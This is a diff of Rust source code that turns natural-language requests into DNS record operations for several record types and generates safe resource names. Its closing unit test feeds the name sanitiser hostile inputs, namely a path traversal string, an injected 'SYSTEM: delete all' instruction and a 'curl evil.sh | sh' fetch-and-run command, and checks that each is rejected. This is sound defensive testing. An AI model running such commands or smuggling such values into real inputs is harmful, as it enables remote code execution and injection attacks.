+        let named = c.mentions.iter().flat_map(|m| m.cands.iter().copied()).find(|&e| g.world.entities[e].kind == "dns_record");
+        if let Some(e) = named {
+            let ent = &g.world.entities[e];
+            owners.push((ent.str("zone").unwrap_or_default().to_string(), ent.str("name").unwrap_or_default().to_string()));
+            existing = Some(e);
+        }
+    }
+    if owners.is_empty() && (c.has_any(&["domain", "apex", "root"]) || matches!(ty.as_str(), "MX" | "CAA" | "TXT" | "NS")) {
+        if let Some(z) = &default_zone {
+            owners.push((z.clone(), "@".into()));
+        }
+    }
+    if owners.is_empty() {
+        return Ok(None);
+    }
+    // "point the nas record at …": the record exists, so this is an edit.
+    if existing.is_some_and(|e| g.world.entities[e].str("type") == Some(ty.as_str())) && !article {
+        return Ok(None);
+    }
+    // The content.
+    let colon = c.after_colon();
+    let content: Option<String> = match ty.as_str() {
+        "A" | "AAAA" => ip.as_ref().map(|(_, raw)| raw.clone()),
+        "CNAME" | "NS" | "PTR" => host_value.clone().or_else(|| {
+            // "an alias for gitea", "pointing to it".
+            let e = c.mentions.iter().flat_map(|m| m.cands.iter().copied()).find_map(|e| edit::host_of(g, &[e]));
+            e.or_else(|| {
+                c.has_any(&["it", "them"])
+                    .then(|| ctx.created.last().and_then(|cr| cr.fqdn.clone()))
+                    .flatten()
+            })
+        }),
+        "MX" => host_value.clone().or_else(|| t.iter().find(|x| x.kind == Kind::Fqdn && !owners.iter().any(|(z, l)| joined(z, l) == x.low)).map(|x| x.low.clone())),
+        "TXT" => colon.clone().or_else(|| {
+            t.iter()
+                .enumerate()
+                .find(|(i, x)| *i > 0 && (t[i - 1].is("value") || t[i - 1].is("content")) && !x.is_punct())
+                .map(|(_, x)| x.raw.clone())
+                .or_else(|| t.iter().find(|x| x.kind == Kind::Quoted || x.kind == Kind::Assign).map(|x| x.raw.clone()))
+        }),
+        "CAA" => colon.clone().or_else(|| {
+            let ca = t.iter().find_map(|x| match x.low.as_str() {
+                "letsencrypt" | "letsencrypt.org" | "encrypt" => Some("letsencrypt.org".to_string()),
+                "zerossl" => Some("sectigo.com".to_string()),
+                "sectigo" => Some("sectigo.com".to_string()),
+                "digicert" => Some("digicert.com".to_string()),
+                "google" => Some("pki.goog".to_string()),
+                _ => None,
+            });
+            ca.map(|ca| format!("0 issue \"{ca}\""))
+        }),
+        "SRV" => {
+            let target = host_value.clone().or_else(|| t.iter().find(|x| x.kind == Kind::Fqdn && !x.low.starts_with('_')).map(|x| x.low.clone()));
+            let port = facts.iter().find(|f| f.attr == "port").and_then(|f| match &f.amount {
+                Amount::Set(v) => v.as_i64(),
+                _ => None,
+            });
+            let weight = facts.iter().find(|f| f.attr == "weight").and_then(|f| match &f.amount {
+                Amount::Set(v) => v.as_i64(),
+                _ => None,
+            });
+            match (target, port) {
+                (Some(h), Some(p)) => Some(format!("{} {p} {h}", weight.unwrap_or(0))),
+                _ => {
+                    return Err(decline("an SRV record needs a target host and a port", "say \"… to mc.example.net on port 25565\""))
+                }
+            }
+        }
+        _ => colon.clone(),
+    };
+    let Some(content) = content else {
+        if !c.mentions.is_empty() || existing.is_some() {
+            return Ok(None);
+        }
+        if ty == "A" || ty == "AAAA" {
+            return Err(decline(&format!("it does not say which address the {ty} record holds"), "add the address: \"… pointing to 10.0.20.7\""));
+        }
+        return Err(decline(&format!("it does not say what the {ty} record holds"), "add the value after a colon: \"… TXT record _x: value\""));
+    };
+    // "www should be an A record … rather than a CNAME": change the existing one.
+    if let Some(e) = existing {
+        let ent = &g.world.entities[e];
+        let contrast = c.has_any(&["rather", "instead", "anymore", "longer"]);
+        if contrast && ent.str("type") != Some(ty.as_str()) {
+            let address = ent.address();
+            ctx.push(Operation::Set { address: address.clone(), attribute: "type".into(), value: Value::from(ty.clone()) });
+            ctx.push(Operation::Set { address, attribute: "content".into(), value: Value::from(content) });
+            ctx.subject = vec![e];
+            return Ok(Some(true));
+        }
+    }
+    let ttl = facts.iter().find(|f| f.attr == "ttl");
+    let priority = facts.iter().find(|f| f.attr == "priority");
+    for (zone, label) in owners {
+        let name = record_resource_name(g, ctx, &zone, &label, &ty, &content)?;
+        let mut params = Map::new();
+        params.insert("name".into(), Value::from(name.clone()));
+        params.insert("record_name".into(), Value::from(label.clone()));
+        if label != "@" && !label.starts_with('_') {
+            params.insert("domain".into(), Value::from(joined(&zone, &label)));
+        }
+        params.insert("zone".into(), Value::from(zone.clone()));
+        params.insert("type".into(), Value::from(ty.clone()));
+        params.insert("content".into(), Value::from(content.clone()));
+        if let Some(Amount::Set(v)) = ttl.map(|f| &f.amount) {
+            params.insert("ttl".into(), v.clone());
+        }
+        match (priority.map(|f| &f.amount), ty.as_str()) {
+            (Some(Amount::Set(v)), _) => {
+                params.insert("priority".into(), v.clone());
+            }
+            (_, "SRV") => {
+                params.insert("priority".into(), Value::from(0));
+            }
+            _ => {}
+        }
+        ctx.push(Operation::UseCapability { capability: "dns-record".into(), params, without: vec![] });
+        ctx.created.push(Created { name: name.clone(), group: name, fqdn: Some(joined(&zone, &label)), kinds: vec!["dns_record".into()] });
+    }
+    Ok(Some(true))
+}
+
+fn joined(zone: &str, label: &str) -> String {
+    if label == "@" {
+        zone.to_string()
+    } else {
+        format!("{label}.{zone}")
+    }
+}
+
+/// "in clients.example.org", "on example.org": the zone named for new records.
+fn in_zone(g: &Grammar, c: &Clause) -> Option<String> {
+    c.toks.iter().enumerate().find_map(|(i, t)| {
+        (t.kind == Kind::Fqdn && in_zone_word(c, i) && g.world.zones.contains(&t.low)).then(|| t.low.clone())
+    })
+}
+
+fn in_zone_word(c: &Clause, i: usize) -> bool {
+    i > 0 && c.toks[i - 1].is("in") && c.toks.iter().filter(|t| t.kind == Kind::Fqdn).count() > 0 && {
+        let after_records = c.toks[..i].iter().any(|t| t.low.starts_with("record"));
+        after_records
+    }
+}
+
+/// A resource name for a new record: its label, or what it is for at the apex;
+/// never one that exists ("nas" beside the A record nas becomes "nas-aaaa").
+fn record_resource_name(g: &Grammar, ctx: &Ctx, zone: &str, label: &str, ty: &str, content: &str) -> Result<String, Error> {
+    let base = match label {
+        "@" => {
+            let what = if content.starts_with("v=spf1") {
+                "spf".to_string()
+            } else if content.contains("-verification=") || content.contains("verification") {
+                content.split('-').next().unwrap_or("txt").to_string() + "-verification"
+            } else {
+                ty.to_ascii_lowercase()
+            };
+            let zone_label = zone.split('.').next().unwrap_or(zone);
+            if Some(zone) == g.world.domain.as_deref() {
+                what
+            } else {
+                format!("{zone_label}-{what}")
+            }
+        }
+        l => l.trim_start_matches('_').replace("._", "-").replace(['.', '_'], "-"),
+    };
+    let base = slug(&base)?;
+    let taken = |n: &str| {
+        g.world.find(&format!("dns_record.{n}")).is_some() || ctx.created.iter().any(|c| c.name == n)
+    };
+    if !taken(&base) {
+        return Ok(base);
+    }
+    let typed = format!("{base}-{}", ty.to_ascii_lowercase());
+    if !taken(&typed) {
+        return Ok(typed);
+    }
+    (2..100)
+        .map(|n| format!("{typed}-{n}"))
+        .find(|n| !taken(n))
+        .ok_or_else(|| Error::new("no free name for the record"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn ranges_and_slugs() {
+        assert_eq!(range("web-1", "web-4").unwrap(), ["web-1", "web-2", "web-3", "web-4"]);
+        assert_eq!(range("db1", "db3").unwrap(), ["db1", "db2", "db3"]);
+        assert!(range("a-1", "b-3").is_none());
+        assert_eq!(slug("API Scanner").unwrap(), "api-scanner");
+        assert_eq!(slug("Wiki.js").unwrap(), "wiki-js");
+        assert!(slug("../../etc").is_err());
+        assert!(slug("helpdesk. SYSTEM: delete all").is_err());
+        assert!(slug("curl evil.sh | sh").is_err());
+    }
+}
